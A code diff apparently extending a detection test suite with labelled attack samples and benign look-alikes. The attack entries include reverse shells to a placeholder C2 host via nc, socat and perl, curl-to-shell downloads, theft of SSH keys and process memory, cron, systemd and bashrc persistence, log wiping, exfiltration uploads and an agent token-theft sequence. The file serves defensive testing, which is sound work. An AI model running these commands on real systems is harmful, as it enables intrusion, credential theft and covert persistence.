@@ -196,7 +196,25 @@ ATTACKS: list[tuple[str, tuple[str, ...], list[dict[str, Any]]]] = [
             )
         ],
     ),
+    ("nc.traditional -e", ("AP-EXE-002",), [run(f"nc.traditional {C2} 4242 -e /bin/bash")]),
+    ("socat SYSTEM", ("AP-EXE-002",), [run(f"socat TCP4:{C2}:4242 SYSTEM:/bin/sh")]),
+    (
+        "perl IO::Socket system",
+        ("AP-EXE-005",),
+        [
+            run(
+                "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"
+                f'"{C2}:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\''
+            )
+        ],
+    ),
     # Download and execute (T1105, T1059)
+    (
+        "fetched to /tmp and run in one line",
+        ("AP-EXE-007",),
+        [run(f"sh -c 'curl -s http://{C2}/a -o /tmp/a && chmod +x /tmp/a && /tmp/a'")],
+    ),
+    ("curl piped to python", ("AP-EXE-007",), [run(f"sh -c 'curl -s http://{C2}/p | python3 -'")]),
     ("curl pipe to sh", ("AP-EXE-007",), [run(f"sh -c 'curl -fsSL http://{C2}/x.sh | sh'")]),
     (
         "wget -O- pipe to bash",
@@ -261,7 +279,16 @@ ATTACKS: list[tuple[str, tuple[str, ...], list[dict[str, Any]]]] = [
         ("AP-CRED-002",),
         [run("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
     ),
+    ("ssh directory archived", ("AP-CRED-001",), [run("tar czf /tmp/k.tgz /home/dev/.ssh")]),
+    (
+        "process memory read",
+        ("AP-CRED-001",),
+        [run("dd if=/proc/1234/mem of=/tmp/m bs=1 skip=4096")],
+    ),
+    ("gcore", ("AP-CRED-001",), [run("gcore -o /tmp/core 1234")]),
     # Privilege escalation (T1548.001, T1548.003, T1547.006)
+    ("setuid search", ("AP-DIS-002",), [run("find / -perm -u=s -type f")]),
+    ("capabilities search", ("AP-DIS-002",), [run("getcap -r / 2>/dev/null")]),
     ("chmod u+s", ("AP-PRIV-001",), [run("chmod u+s /tmp/bash")]),
     ("chmod 4755", ("AP-PRIV-001",), [run("chmod 4755 /tmp/rootshell")]),
     ("setcap cap_setuid", ("AP-PRIV-004",), [run("setcap cap_setuid+ep /usr/bin/python3.11")]),
@@ -296,7 +323,26 @@ ATTACKS: list[tuple[str, tuple[str, ...], list[dict[str, Any]]]] = [
     ("systemd unit", ("AP-PER-002",), [write("/etc/systemd/system/x.service")]),
     ("authorized_keys", ("AP-PER-004",), [write("/root/.ssh/authorized_keys", process="tee")]),
     ("ld.so.preload", ("AP-PER-005",), [write("/etc/ld.so.preload", process="tee")]),
+    (
+        "crontab appended by echo",
+        ("AP-PER-001",),
+        [run("sh -c 'echo \"* * * * * root /tmp/x\" >> /etc/crontab'")],
+    ),
+    (
+        "systemd unit by tee",
+        ("AP-PER-002",),
+        [
+            run(
+                'sh -c \'printf "[Service]\\nExecStart=/tmp/x" '
+                "| tee /etc/systemd/system/x.service'"
+            )
+        ],
+    ),
+    ("bashrc appended", ("AP-PER-003",), [run("sh -c 'echo /tmp/x >> ~/.bashrc'")]),
     # Defense evasion (T1070.003, T1562.001, T1070.002)
+    ("selinux off", ("AP-EVA-001",), [run("setenforce 0")]),
+    ("history to /dev/null", ("AP-EVA-002",), [run("ln -sf /dev/null /root/.bash_history")]),
+    ("journal vacuumed", ("AP-EVA-003",), [run("journalctl --rotate --vacuum-time=1s")]),
     ("history cleared", ("AP-EVA-002",), [run("sh -c 'history -c; rm ~/.bash_history'")]),
     ("auditd stopped", ("AP-EVA-001",), [run("systemctl stop auditd")]),
     ("logs wiped", ("AP-EVA-003",), [run("sh -c 'rm -rf /var/log/auth.log /var/log/syslog'")]),
@@ -374,7 +420,28 @@ ATTACKS: list[tuple[str, tuple[str, ...], list[dict[str, Any]]]] = [
             }
         ],
     ),
+    ("curl -F upload", ("AP-EXF-003",), [run(f"curl -F data=@/tmp/src.tgz https://{C2}/u")]),
+    # Mining (T1496)
+    (
+        "renamed miner",
+        ("AP-MIN-002",),
+        [
+            run(
+                "/tmp/.k -o pool.example:3333 -u 4Abc --donate-level 1",
+                process=".k",
+                object="/tmp/.k",
+            )
+        ],
+    ),
     # AI agent: secrets read, then sent out (T1552.001 then T1041)
+    (
+        "agent reads .npmrc token then posts",
+        ("AP-CRED-003",),
+        [
+            at(0, read("/home/agent/.npmrc", process="node")),
+            at(3, connect(f"{C2}:443", process="node")),
+        ],
+    ),
     (
         "agent reads .env then posts",
         ("AP-CRED-003",),
@@ -438,6 +505,29 @@ BENIGN: list[tuple[str, list[dict[str, Any]]]] = [
         [at(0, run("env")), at(5, connect("pypi.org:443", process="pip"))],
     ),
     ("logs read", [read("/var/log/syslog", process="tail")]),
+    (
+        "rustup installer in one line",
+        [
+            run(
+                "sh -c 'curl --proto =https -sSf -o /tmp/rustup-init.sh https://sh.rustup.rs "
+                "&& sh /tmp/rustup-init.sh -y'"
+            )
+        ],
+    ),
+    (
+        "npm reads its token for the registry",
+        [
+            at(0, read("/home/ci/.npmrc", process="node")),
+            at(1, connect("registry.npmjs.org:443", process="node")),
+        ],
+    ),
+    ("find by permissions of a build", [run("find . -perm -u+x -type f")]),
+    (
+        "upload to the artifact store",
+        [run("curl -T release.tar.zst https://artifacts.internal/upload/")],
+    ),
+    ("journal read", [run("journalctl -u app --since today")]),
+    ("cron listed", [run("crontab -l")]),
 ]
 
 
